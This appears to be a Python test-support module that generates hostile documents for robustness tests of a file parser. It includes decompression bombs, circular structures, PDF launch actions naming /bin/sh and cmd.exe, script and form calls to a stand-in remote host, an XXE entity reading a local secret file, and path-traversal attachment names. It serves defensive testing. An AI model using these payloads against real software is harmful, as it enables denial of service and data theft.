"""Hostile files of the kinds that are one stream: PDFs, pictures, old Office files, messages, RTF, web pages and texts."""

# ruff: noqa: E501

from __future__ import annotations

import io
import json
import random
import struct
import zlib
from collections.abc import Callable, Sequence

from tests.support.document_files import pdf_bytes
from tests.support.hostile_packages import REMOTE, WORD, Make, well_formed
from tests.support.outlook_files import Outlook, compound_file, packed_rtf
from tests.support.pdf_files import pdf_of
from tests.support.scans import page_images, scanned_pdf, tiff_bytes
from tests.support.written_files import rtf_bytes

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def well_formed_streams() -> dict[str, bytes]:
    """A file of each kind that is as it should be, by suffix."""
    lines = [f"line {i}, {WORD}" for i in range(40)]
    return {
        "pdf": pdf_bytes(["\n".join(lines[:20]), "\n".join(lines[20:])]),
        "png": _png_of(page_images([WORD], dpi=40)[0]),
        "tif": tiff_bytes(page_images([WORD, WORD], dpi=40), dpi=40),
        "xls": xls([label(0, 0, WORD), number(1, 0, 2.5)]),
        "msg": Outlook({0x0037: "subject", 0x1000: WORD * 500}).to_bytes(),
        "rtf": rtf_bytes(r"\par ".join(lines)),
        "html": ("<html><body><table><tr><td>" + "</td></tr><tr><td>".join(lines) + "</table>").encode(),
        "eml": mail([text(WORD), attachment("a.html", b"<p>inner</p>", "text/html")]),
        "mbox": mbox([mail([text(WORD)]), mail([text("second")])]),
        "ipynb": notebook([{"cell_type": "markdown", "source": lines}]),
        "srt": "".join(f"{i}\n00:00:{i:02},000 --> 00:00:{i:02},900\n{WORD}\n\n" for i in range(1, 50)).encode(),
        "csv": "\n".join(f"{i};{WORD};2,5" for i in range(200)).encode(),
    }


# PDF


def pdf(objects: Sequence[bytes], trailer: bytes = b"/Root 1 0 R", *, xref: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1. ``xref``: stands in place of its table."""
    out = io.BytesIO(b"%PDF-1.7\n")
    out.seek(0, 2)
    places = []
    for i, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    at = out.tell()
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
        b"%010d 00000 n \n" % p for p in places
    )
    out.write(xref or table)
    out.write(
        b"trailer << /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, trailer.replace(b"HERE", b"%d" % at), at)
    )
    return out.getvalue()


def stream(data: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n" % (len(data), more) + data + b"\nendstream"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_SAY = b"BT /F1 11 Tf 50 700 Td (said) Tj ET\n"


def page(
    content: bytes, more: bytes = b"", resources: bytes = b"", objects: Sequence[bytes] = (), catalog: bytes = b""
) -> bytes:
    """A PDF of one page. Objects 1 to 5 are the catalog, the pages, the page, the font and ``content``; then ``objects``."""
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R %s /Resources << /Font << /F1 4 0 R >> %s >> >>" % (more, resources),
        _FONT,
        content,
        *objects,
    ])  # fmt: skip


def deflated(megabytes: int, start: bytes = b"", byte: int = 0) -> bytes:
    """``start`` and then one byte, megabytes of it, as zlib packs them; made without packing so much."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes([byte]) * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    count, sums = megabytes << 20, zlib.adler32(start)
    low, high = sums & 0xFFFF, sums >> 16
    high = (high + count * low + byte * count * (count + 1) // 2) % 65521
    low = (low + count * byte) % 65521
    return b"\x78\xda" + first + block * megabytes + packer.flush() + struct.pack(">HH", high, low)


def _flated(size: int, layers: int = 1, start: bytes = _SAY) -> bytes:
    """A stream that unpacks to ``size`` megabytes of spaces."""
    data = deflated(size, start, 32)
    for _ in range(layers - 1):
        data = zlib.compress(data, 1)
    return stream(data, b"/Filter [%s]" % (b"/FlateDecode " * layers))


def _forms(levels: int, each: int) -> bytes:
    """Forms that show forms: each of them the next one several times."""
    objects = []
    for i in range(levels):
        if i == levels - 1:
            objects.append(
                stream(
                    _SAY, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >>"
                )
            )
            continue
        more = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>" % (7 + i)
        objects.append(stream(b"/X Do " * each, more))
    return page(stream(_SAY + b"/X Do"), resources=b"/XObject << /X 6 0 R >>", objects=objects)


def _pages(tree: bytes, count: bytes = b"1") -> bytes:
    """A PDF whose page tree has ``tree`` as its kids."""
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %s /Kids [%s] >>" % (count, tree),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> >> >>",
        _FONT,
        stream(_SAY),
        b"<< /Type /Pages /Count 1 /Kids [2 0 R 6 0 R] >>",
    ])  # fmt: skip


def _image_pdf(width: int, height: int, filters: bytes, data: bytes, more: bytes = b"") -> bytes:
    """A page that is a picture."""
    image = stream(
        data,
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter %s %s"
        % (width, height, filters, more),
    )
    return page(stream(b"q 595 0 0 842 0 0 cm /I Do Q"), resources=b"/XObject << /I 6 0 R >>", objects=[image])


def _tracked(action: bytes) -> bytes:
    return page(
        stream(_SAY), b"/AA << /O %s >>" % action, catalog=b"/OpenAction %s /AA << /WC %s >>" % (action, action)
    )


_PDF: dict[str, Make] = {
    "flate bomb": lambda at: page(_flated(250)),
    "flate in flate": lambda at: page(_flated(250, 3)),
    "lzw bomb": lambda at: page(stream(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01" * 50_000, b"/Filter /LZWDecode")),
    "filters": lambda at: page(stream(zlib.compress(_SAY), b"/Filter [%s]" % (b"/FlateDecode " * 5000))),
    "forms": lambda at: _forms(8, 10),
    "form of itself": lambda at: page(
        stream(_SAY + b"/X Do"),
        resources=b"/XObject << /X 6 0 R >>",
        objects=[
            stream(
                b"/X Do /X Do",
                b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
            )
        ],
    ),
    "pages in a circle": lambda at: _pages(b"6 0 R", b"5"),
    "pages of themselves": lambda at: _pages(b"2 0 R"),
    "many pages": lambda at: _pages(b"3 0 R", b"2147483647"),
    "page repeated": lambda at: _pages(b"3 0 R " * 4000, b"4000"),
    "negative count": lambda at: _pages(b"3 0 R", b"-5"),
    "xref of itself": lambda at: pdf([b"<< /Type /Catalog >>"], b"/Root 1 0 R /Prev HERE"),
    "xref size": lambda at: pdf([b"<< /Type /Catalog >>"], xref=b"xref\n0 2147483647\n0000000000 65535 f \n"),
    "root of itself": lambda at: pdf([b"1 0 R"]),
    "length of itself": lambda at: page(b"<< /Length 5 0 R >>\nstream\n" + _SAY + b"\nendstream"),
    "deep arrays": lambda at: page(stream(_SAY + b"[" * 50_000 + b"]" * 50_000 + b" TJ")),
    "deep dictionaries": lambda at: page(stream(_SAY), b"/X " + b"<<" * 100_000 + b">>" * 100_000),
    "states": lambda at: page(stream(b"q " * 100_000 + _SAY)),
    "object streams": lambda at: pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            stream(b"2 0 <<>>", b"/Type /ObjStm /N 2147483647 /First 4 /Extends 2 0 R"),
        ]
    ),
    "launch": lambda at: _tracked(b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>"),
    "uri": lambda at: _tracked(b"<< /S /URI /URI (%s) >>" % REMOTE.encode()),
    "script": lambda at: _tracked(b"<< /S /JavaScript /JS (app.launchURL('%s'); while(1){}) >>" % REMOTE.encode()),
    "submit": lambda at: _tracked(b"<< /S /SubmitForm /F (%s) >>" % REMOTE.encode()),
    "goto remote": lambda at: _tracked(b"<< /S /GoToR /F (%s/secret.txt) /D [0 /Fit] >>" % at.encode()),
    "external stream": lambda at: page(stream(_SAY, b"/F (%s/secret.txt) /FFilter []" % at.encode())),
    "embedded name": lambda at: pdf_of(
        [[(WORD, 50, 700)]],
        catalog="/Names << /EmbeddedFiles << /Names [(x) << /Type /Filespec /F (../../\x1b[31m<b>\nx) /UF (../../x) /EF << >> >>] >> >>",
    ),
    "name tree of itself": lambda at: page(
        stream(_SAY), objects=[b"<< /Kids [6 0 R 6 0 R] >>"], catalog=b"/Names << /EmbeddedFiles 6 0 R >>"
    ),
    "form fields of themselves": lambda at: page(
        stream(_SAY),
        b"/Annots [6 0 R]",
        objects=[
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Parent 6 0 R /Kids [6 0 R 6 0 R] /Rect [0 0 9 9] >>"
        ],
        catalog=b"/AcroForm << /Fields [6 0 R] >>",
    ),
    "many annotations": lambda at: pdf_of(
        [[(WORD, 50, 700)]], annotations=[f"/Subtype /Text /Contents ({'c' * 2000}) /Rect [0 0 9 9]"] * 3000
    ),
    "font of itself": lambda at: page(
        stream(b"BT /F2 11 Tf 50 700 Td (said) Tj ET"),
        objects=[
            b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 0 /LastChar 255 /CharProcs << /a 7 0 R >>"
            b" /Encoding << /Differences [97 /a] >> /Widths [1] /Resources << /Font << /F2 6 0 R >> >> >>",
            stream(b"BT /F2 11 Tf (aaa) Tj ET"),
        ],
        resources=b"/F2 6 0 R /Font << /F2 6 0 R /F1 4 0 R >>",
    ),
    "to unicode": lambda at: page(
        stream(b"BT /F2 11 Tf 50 700 Td (said) Tj ET"),
        objects=[
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 7 0 R >>",
            stream(b"1 beginbfrange\n<00> <ffffffff> <0000>\nendbfrange\n" * 300),
        ],
        resources=b"/Font << /F2 6 0 R >>",
    ),
    "box": lambda at: page(stream(_SAY), b"/MediaBox [-1e38 -1e38 1e38 1e38] /UserUnit 1e30 /Rotate 37"),
    "same place": lambda at: page(stream(_SAY * 15_000)),
    "image size": lambda at: _image_pdf(65535, 65535, b"/FlateDecode", deflated(16)),
    "image bomb": lambda at: _image_pdf(20_000, 20_000, b"/FlateDecode", deflated(382)),
    "image jbig2": lambda at: _image_pdf(
        65535,
        65535,
        b"/JBIG2Decode",
        struct.pack(">IBBBIIIIIBH", 0, 0x30, 0, 1, 19, 0xFFFFFFFF, 0xFFFFFFFF, 0, 0, 0, 0),
    ),
    "image jpx": lambda at: _image_pdf(65535, 65535, b"/JPXDecode", b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(200)),
    "image fax": lambda at: _image_pdf(
        65535, 65535, b"/CCITTFaxDecode", b"\0" * 50_000, b"/DecodeParms << /K -1 /Columns 65535 /Rows 65535 >>"
    ),
    "mask of itself": lambda at: _image_pdf(9, 9, b"/FlateDecode", deflated(1), b"/SMask 6 0 R"),
    "scan repeated": lambda at: scanned_pdf(page_images([WORD], dpi=60) * 3),
}


# Pictures


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, data: bytes, more: bytes = b"", colour: int = 0) -> bytes:
    """A PNG of 8 bits."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _png_of(image: object) -> bytes:
    out = io.BytesIO()
    image.save(out, "PNG")  # type: ignore[attr-defined]
    return out.getvalue()


def tiff(entries: Sequence[tuple[int, int, int]], following: int = 0, data: bytes = b"") -> bytes:
    """A TIFF of one directory at 8: tags, counts and values of 32 bits; ``following``: where the next one is said to be."""
    body = b"II*\0" + struct.pack("<IH", 8, len(entries))
    body += b"".join(struct.pack("<HHII", tag, 4, count, value) for tag, count, value in entries)
    return body + struct.pack("<I", following) + data


def _tiff(width: int, height: int, following: int = 0, packing: int = 1, strip: int = 0xFFFF) -> bytes:
    entries = [
        (256, 1, width),
        (257, 1, height),
        (258, 1, 8),
        (259, 1, packing),
        (262, 1, 1),
        (273, 1, 150),
        (277, 1, 1),
        (278, 1, height),
        (279, 1, strip),
    ]
    return tiff(entries, following, bytes(200))


_IMAGE: dict[str, Make] = {
    "png size": lambda at: png(65535, 65535, zlib.compress(b"")),
    "png largest": lambda at: png(0x7FFFFFFF, 0x7FFFFFFF, zlib.compress(b"")),
    "png bomb": lambda at: png(30_000, 30_000, deflated(859)),
    "png colours": lambda at: png(14_000, 14_000, zlib.compress(b""), colour=6),
    "png text bomb": lambda at: png(9, 9, zlib.compress(bytes(90)), chunk(b"zTXt", b"a\0\0" + deflated(200)) * 5),
    "png profile bomb": lambda at: png(9, 9, zlib.compress(bytes(90)), chunk(b"iCCP", b"a\0\0" + deflated(200))),
    "png zero": lambda at: png(0, 0, b""),
    "png animated": lambda at: png(9, 9, zlib.compress(bytes(90)), chunk(b"acTL", struct.pack(">II", 0x7FFFFFFF, 0))),
    "png long chunk": lambda at: b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 0x7FFFFFFF) + b"IHDR" + bytes(50),
    "gif size": lambda at: (
        b"GIF89a"
        + struct.pack("<HHBBB", 65535, 65535, 0, 0, 0)
        + b","
        + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0)
        + b"\x02\x02\x4c\x01\0;"
    ),
    "gif frames": lambda at: (
        b"GIF89a"
        + struct.pack("<HHBBB", 2000, 2000, 0, 0, 0)
        + (b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\0") * 20_000
        + b";"
    ),
    "gif no end": lambda at: b"GIF89a" + bytes(7) + b"!\xff\xff" * 100_000,
    "jpeg size": lambda at: (
        b"\xff\xd8\xff\xc0\0\x0b\x08\xff\xff\xff\xff\x01\x01\x11\0\xff\xda\0\x08\x01\x01\0\0\x3f\0"
        + bytes(500)
        + b"\xff\xd9"
    ),
    "jpeg scans": lambda at: (
        b"\xff\xd8\xff\xc2\0\x0b\x08\x20\0\x20\0\x01\x01\x11\0"
        + b"\xff\xda\0\x08\x01\x01\0\0\0\0\0" * 50_000
        + b"\xff\xd9"
    ),
    "jpeg exif of itself": lambda at: (
        b"\xff\xd8\xff\xe1\0\x40Exif\0\0" + tiff([(0x8769, 1, 8), (0x8825, 1, 8)], 8) + bytes(80)
    ),
    "tiff size": lambda at: _tiff(65535, 65535),
    "tiff largest": lambda at: _tiff(0xFFFFFFFF, 0xFFFFFFFF),
    "tiff of itself": lambda at: _tiff(9, 9, following=8),
    "tiff count": lambda at: tiff([(256, 0xFFFFFFFF, 9), (257, 1, 9), (273, 0x7FFFFFFF, 9), (330, 0xFFFFFF, 8)]),
    "tiff fax": lambda at: _tiff(60_000, 3000, packing=4),
    "tiff flate": lambda at: _tiff(14_000, 14_000, packing=8),
    "webp size": lambda at: b"RIFF\xff\xff\xff\xffWEBPVP8L\xff\xff\xff\xff\x2f\xff\xff\xff\xff" + bytes(99),
    "webp canvas": lambda at: (
        b"RIFF"
        + struct.pack("<I", 100)
        + b"WEBPVP8X"
        + struct.pack("<I", 10)
        + b"\x02\0\0\0\xff\xff\xff\xff\xff\xff"
        + bytes(90)
    ),
}
_IMAGE_NAMES = {"png": "png", "gif": "gif", "jpeg": "jpg", "tiff": "tif", "webp": "webp"}


# Compound files: old workbooks, Outlook messages


def biff(kind: int, body: bytes = b"") -> bytes:
    """A record of an .xls."""
    return struct.pack("<HH", kind, len(body)) + body


def label(row: int, column: int, said: str) -> bytes:
    """A cell with a text."""
    return biff(0x204, struct.pack("<HHHHB", row, column, 0, len(said), 0) + said.encode("latin-1"))


def number(row: int, column: int, value: float) -> bytes:
    """A cell with a number."""
    return biff(0x203, struct.pack("<HHHd", row, column, 0, value))


def book(cells: Sequence[bytes], more: bytes = b"", offset: int | None = None, sheets: int = 1) -> bytes:
    """The stream of a workbook. ``more``: records before its sheets. ``offset``: where the sheets are said to be."""
    head = biff(0x809, struct.pack("<HHHHII", 0x600, 5, 0, 0, 0, 6)) + biff(0x42, b"\xb0\x04") + more
    one = len(biff(0x85, bytes(6 + 2 + 1)))
    at = len(head) + one * sheets + 4 if offset is None else offset
    listed = b"".join(biff(0x85, struct.pack("<IBBBB", at, 0, 0, 1, 0) + bytes([65 + i % 26])) for i in range(sheets))
    start = biff(0x809, struct.pack("<HHHHII", 0x600, 0x10, 0, 0, 0, 6)) + biff(
        0x200, struct.pack("<IIHHH", 0, 9, 0, 9, 0)
    )
    return head + listed + biff(0x0A) + start + b"".join(cells) + biff(0x0A)


def xls(cells: Sequence[bytes], more: bytes = b"", **options: int) -> bytes:
    """An .xls."""
    return compound_file({"Workbook": book(cells, more, **options).ljust(4200, b"\0")})


def _table(data: bytes, change: Callable[[bytearray, int], None]) -> bytes:
    """A compound file with its first allocation table changed; ``change`` gets the file and the table's place."""
    changed = bytearray(data)
    change(changed, (int.from_bytes(data[76:80], "little") + 1) * 512)
    return bytes(changed)


def _all_circles(data: bytearray, at: int) -> None:
    for i in range(128):
        data[at + 4 * i : at + 4 * i + 4] = struct.pack("<I", i)


def _next_circles(data: bytearray, at: int) -> None:
    for i in range(0, 128, 2):
        data[at + 4 * i : at + 4 * i + 8] = struct.pack("<II", i + 1, i)


def _header(data: bytes, place: int, value: int) -> bytes:
    return data[:place] + struct.pack("<I", value) + data[place + 4 :]


def _ole(good: bytes) -> dict[str, bytes]:
    """Damage of what every compound file has."""
    name = good.find("Root Entry".encode("utf-16-le"))
    return {
        "chain of itself": _table(good, _all_circles),
        "chain in a circle": _table(good, _next_circles),
        "table of itself": _header(_header(good, 68, 0), 72, 0xFFFFFFF0),
        "many tables": _header(good, 44, 0x7FFFFFFF),
        "sector size": good[:30] + b"\xff\xff" + good[32:],
        "sector zero": good[:30] + b"\0\0" + good[32:],
        "directory outside": _header(good, 48, 0x7FFFFFFF),
        "mini tables": _header(_header(good, 60, 0), 64, 0x7FFFFFFF),
        "tree of itself": good[: name + 68] + struct.pack("<III", 0, 0, 0) + good[name + 80 :],
        "children of themselves": good[: name + 128 + 68] + struct.pack("<III", 1, 1, 1) + good[name + 128 + 80 :],
        "root size": good[: name + 116] + struct.pack("<IQ", 0, 0xFFFFFFFFFFFF) + good[name + 128 :],
    }


_XLS: dict[str, Make] = {
    "far cell": lambda at: xls([label(0, 0, WORD), label(65535, 65535, "far")]),
    "sheet of itself": lambda at: xls([label(0, 0, WORD)], offset=0),
    "sheet outside": lambda at: xls([label(0, 0, WORD)], offset=0x7FFFFFFF),
    "sheets": lambda at: xls([label(0, i, "a" * 200) for i in range(90)], sheets=3000),
    "strings": lambda at: xls([label(0, 0, WORD)], biff(0xFC, struct.pack("<IIHB", 0x7FFFFFFF, 0x7FFFFFFF, 0xFFFF, 1))),
    "rich strings": lambda at: xls(
        [label(0, 0, WORD)],
        biff(0xFC, struct.pack("<IIHBHI", 2, 2, 9, 0x0C, 0xFFFF, 0x7FFFFFFF)) + biff(0x3C, b"a" * 200) * 99,
    ),
    "format": lambda at: xls(
        [number(0, 0, 1e300), label(1, 0, WORD)],
        biff(0x41E, struct.pack("<HHB", 200, 8000, 0) + b"0" * 8000) + biff(0xE0, struct.pack("<HH16x", 0, 200)),
    ),
    "merged": lambda at: xls(
        [label(0, 0, WORD)] + [biff(0xE5, struct.pack("<H", 1000) + struct.pack("<4H", 0, 65535, 0, 65535) * 1000)] * 20
    ),
    "columns": lambda at: xls([label(0, 0, WORD)] + [biff(0x7D, struct.pack("<6H", 0, 65535, 0, 0, 1, 0))] * 5000),
    "formula": lambda at: xls(
        [label(0, 0, WORD), biff(0x06, struct.pack("<HHHdHIH", 1, 0, 0, 1.0, 0, 0, 5000) + b"\x15" * 5000)]
    ),
    "record length": lambda at: xls([label(0, 0, WORD), struct.pack("<HH", 0x204, 0xFFFF)]),
    "blanks": lambda at: xls(
        [label(0, 0, WORD), biff(0xBE, struct.pack("<HH", 0, 0) + bytes(8000) + struct.pack("<H", 65535))] * 50
    ),
    "no end": lambda at: compound_file({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(100_000)}),
    "macros": lambda at: compound_file(
        {"Workbook": book([label(0, 0, WORD)]).ljust(4200, b"\0"), "_VBA_PROJECT_CUR": {"VBA": {"dir": b"x" * 9000}}}
    ),
    "code page": lambda at: xls([label(0, 0, WORD)], biff(0x42, b"\xff\xff")),
}


def _attached(name: str, data: bytes, more: dict[int, object] | None = None) -> dict[int, object]:
    return {0x3707: name, 0x3704: name, 0x3701: data, 0x3705: 1, **(more or {})}


def _messages(depth: int) -> Outlook:
    one = Outlook({0x0037: "innermost", 0x1000: WORD})
    for i in range(depth):
        one = Outlook({0x0037: f"level {i}"}, attachments=[{0x3705: 5, 0x3701: one, 0x3707: "m"}])
    return one


def _lzfu(megabytes: int, claimed: int | None = None) -> bytes:
    """A compressed text of references to the byte before."""
    tokens = bytearray()
    write = 207
    out = bytearray(b"\x00" + rb"{\rtf1 a")
    write += 8
    for _ in range((megabytes << 20) // (8 * 17)):
        out.append(0xFF)
        for _ in range(8):
            out += struct.pack(">H", (write - 1) % 4096 << 4 | 15)
            write = (write + 17) % 4096
    tokens += out
    return struct.pack("<II4sI", len(tokens) + 12, claimed or megabytes << 20, b"LZFu", 0) + bytes(tokens)


_MSG: dict[str, Make] = {
    "lzfu bomb": lambda at: Outlook({0x0037: "s", 0x1009: _lzfu(8)}).to_bytes(),
    "lzfu lies": lambda at: Outlook({0x0037: "s", 0x1009: _lzfu(2, 0xFFFFFFFF)}).to_bytes(),
    "message in message": lambda at: _messages(60).to_bytes(),
    "names": lambda at: Outlook(
        {0x0037: "s", 0x1000: WORD},
        attachments=[
            _attached(name, b"text")
            for name in ("../../x.txt", "/etc/passwd", "C:\\CON.txt", "\x1b[31mred\n.txt", "<b>.html", "x" * 900)
        ],
    ).to_bytes(),
    "bomb attached": lambda at: Outlook(
        {0x0037: "s", 0x1000: WORD},
        attachments=[_attached("x.png", png(65535, 65535, b"")), _attached("y.docx", well_formed()["docx"][:900])],
    ).to_bytes(),
    "linked": lambda at: Outlook(
        {0x0037: "s", 0x1000: WORD},
        attachments=[{0x3705: 4, 0x3707: "l", 0x370D: f"{at}/secret.txt"}, {0x3705: 2, 0x370D: "\\\\127.0.0.1\\x"}],
    ).to_bytes(),
    "html": lambda at: Outlook(
        {
            0x0037: "s",
            0x1013: f'<img src="{REMOTE}"><iframe src="file://{at}/secret.txt"></iframe><p>{WORD}</p>'.encode(),
        }
    ).to_bytes(),
    "recipients": lambda at: Outlook(
        {0x0037: "s", 0x1000: WORD}, recipients=[{0x3001: "n" * 100, 0x0C15: 1}] * 1500
    ).to_bytes(),
    "rtf bomb": lambda at: Outlook(
        {0x0037: "s", 0x1009: packed_rtf(rb"{\rtf1\fromhtml1 " + b"{" * 60_000 + b"a" + b"}" * 60_000 + b"}")}
    ).to_bytes(),
    "property count": lambda at: Outlook({0x0037: "s" * 9000, **dict.fromkeys(range(0x4000, 0x4600), 7)}).to_bytes(),
}


# RTF


_RTF: dict[str, Make] = {
    "groups": lambda at: rtf_bytes("{" * 60_000 + WORD + "}" * 60_000),
    "open groups": lambda at: rtf_bytes("{\\b " * 60_000 + WORD),
    "binary": lambda at: rtf_bytes(WORD + "\\bin2147483647 " + "a" * 100),
    "negative binary": lambda at: rtf_bytes(WORD + "\\bin-5 aaaaa"),
    "digits": lambda at: rtf_bytes(WORD + "\\u" + "9" * 100_000 + " a\\fs" + "9" * 100_000),
    "skip": lambda at: rtf_bytes("\\uc2147483647\\u65 a" + WORD * 1000),
    "surrogates": lambda at: rtf_bytes("\\u-10240?" * 50_000 + WORD),
    "word": lambda at: rtf_bytes("\\" + "a" * 1_000_000 + " " + WORD),
    "closed": lambda at: rtf_bytes(WORD + "}" * 100_000 + "more"),
    "tables": lambda at: rtf_bytes(
        ("\\trowd" + "\\cellx1" * 500 + "\\intbl " + "a\\cell" * 500 + "\\row ") * 100 + WORD
    ),
    "nested tables": lambda at: rtf_bytes(
        "".join(f"\\itap{i}\\intbl a\\nestcell " for i in range(1, 3000)) + "\\itap2147483647\\intbl b\\nestcell" + WORD
    ),
    "fields": lambda at: rtf_bytes(
        '{\\field{\\*\\fldinst INCLUDETEXT "' + f"{at}/secret.txt" + '"}{\\fldrslt ' * 5000 + WORD + "}}" * 5000
    ),
    "object": lambda at: rtf_bytes(
        "{\\object\\objautlink\\objupdate{\\*\\objdata 0105" + "00" * 100_000 + "}{\\result " + WORD + "}}"
    ),
    "template": lambda at: rtf_bytes("{\\*\\template " + REMOTE + "}" + WORD),
    "fonts": lambda at: rtf_bytes(
        WORD, head="\\ansi{\\fonttbl" + "".join(f"{{\\f{i}\\fcharset{i % 256} F{i};}}" for i in range(60_000)) + "}"
    ),
    "code page": lambda at: rtf_bytes("\\'e9" * 1000 + WORD, head="\\ansi\\ansicpg99999 "),
    "lists": lambda at: rtf_bytes(
        "{\\*\\listtable"
        + "{\\list{\\listlevel\\levelstartat2147483647\\levelnfc4{\\leveltext\\'02\\'00.;}}\\listid1}" * 1000
        + "}{\\*\\listoverridetable{\\listoverride\\listid1\\ls1}}"
        + "\\pard\\ls1 a\\par" * 100
        + WORD
    ),
    "picture": lambda at: rtf_bytes("{\\pict\\pngblip\\picw2147483647\\pich2147483647 " + "ff" * 100_000 + "}" + WORD),
    "from html": lambda at: rtf_bytes("{\\*\\htmltag <p>}" * 50_000 + WORD, head="\\ansi\\fromhtml1 "),
    "notes": lambda at: rtf_bytes("{\\footnote a" * 5000 + WORD + "}" * 5000),
}


# Web pages


_HTML: dict[str, Make] = {
    "deep": lambda at: ("<html>" + "<div>" * 50_000 + WORD).encode(),
    "formatting": lambda at: ("<html>" + "<b><i><a>" * 60_000 + WORD + "</b>" * 60_000).encode(),
    "tables": lambda at: ("<html>" + "<table><tr><td>" * 20_000 + WORD).encode(),
    "spans": lambda at: (
        f"<html><table><tr><td colspan=2147483647 rowspan=2147483647>{WORD}<td>b<tr><td>c</table>".encode()
    ),
    "many spans": lambda at: (
        "<html><table>" + "<tr>" + f"<td rowspan=65534 colspan=1000>{WORD}" * 200 + "<tr><td>a" * 5000 + "</table>"
    ).encode(),
    "lists": lambda at: ("<html>" + "<ol start=2147483647 type=i><li>" * 5000 + WORD).encode(),
    "letters": lambda at: f"<html><ol type=a start=999999999999999999><li>{WORD}<li value={'9' * 9000}>b</ol>".encode(),
    "entities": lambda at: ("<html>" + "&" * 100_000 + "&#99999999999;&#x" + "f" * 100_000 + ";" + WORD).encode(),
    "attributes": lambda at: ("<html><p " + " ".join(f"a{i}=b" for i in range(50_000)) + f">{WORD}").encode(),
    "attribute": lambda at: ("<html><p style='display:none" + ";a:b" * 100_000 + f"'>hidden</p>{WORD}").encode(),
    "comments": lambda at: ("<html>" + "<!-- -- > " * 100_000 + WORD).encode(),
    "signs": lambda at: ("<html>" + "<" * 1_000_000 + WORD).encode(),
    "open tags": lambda at: ("<html>" + "<a href=" * 50_000 + WORD).encode(),
    "scripts": lambda at: ("<html>" + "<script><!--" * 50_000 + WORD).encode(),
    "styles": lambda at: ("<html><style>" + ".a .b>.c{display:none}" * 30_000 + f"</style><p class=a>{WORD}").encode(),
    "remote": lambda at: (
        f'<html><base href="{REMOTE}"><link rel=stylesheet href="{REMOTE}"><img src="{REMOTE}"><iframe src="file://{at}/secret.txt"></iframe><object data="{REMOTE}"></object><meta http-equiv=refresh content="0;url={REMOTE}"><script>fetch("{REMOTE}")</script>{WORD}'.encode()
    ),
    "doctype": lambda at: f'<!DOCTYPE html [<!ENTITY e SYSTEM "file://{at}/secret.txt">]><html>&e;{WORD}'.encode(),
    "charset": lambda at: ('<html><meta charset="utf-7">+ADw-script+AD4-' + WORD).encode(),
    "charset codec": lambda at: ('<html><meta charset="zlib_codec">' + WORD).encode(),
    "nul": lambda at: ("<html>\0<p\0>" * 1000 + WORD).encode(),
    "select": lambda at: ("<html>" + "<select><option>" * 50_000 + WORD).encode(),
    "svg": lambda at: ("<html>" + "<svg><foreignObject><math>" * 20_000 + WORD).encode(),
    "line": lambda at: b"<html>" + b"a" * 4_000_000,
}


# Mail


def text(said: str) -> bytes:
    """A part that is a text."""
    return b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + said.encode()


def attachment(name: str, data: bytes, kind: str = "application/octet-stream") -> bytes:
    """A part that is a file, in 8 bits as it is."""
    head = f'Content-Type: {kind}; name="{name}"\r\nContent-Disposition: attachment; filename="{name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    import base64

    return head.encode("utf-8", "surrogateescape") + base64.encodebytes(data)


def mail(parts: Sequence[bytes], head: str = "") -> bytes:
    """A message of parts."""
    start = f"From: a@example.org\r\nTo: b@example.org\r\nSubject: s\r\nDate: Mon, 1 Jan 2024 00:00:00 +0000\r\nMIME-Version: 1.0\r\n{head}Content-Type: multipart/mixed; boundary=XX\r\n\r\n"
    return start.encode("latin-1") + b"".join(b"--XX\r\n" + each + b"\r\n" for each in parts) + b"--XX--\r\n"


def mbox(messages: Sequence[bytes]) -> bytes:
    """A mailbox."""
    return b"".join(
        b"From a@example.org Mon Jan  1 00:00:00 2024\n" + each.replace(b"\r\n", b"\n") + b"\n\n" for each in messages
    )

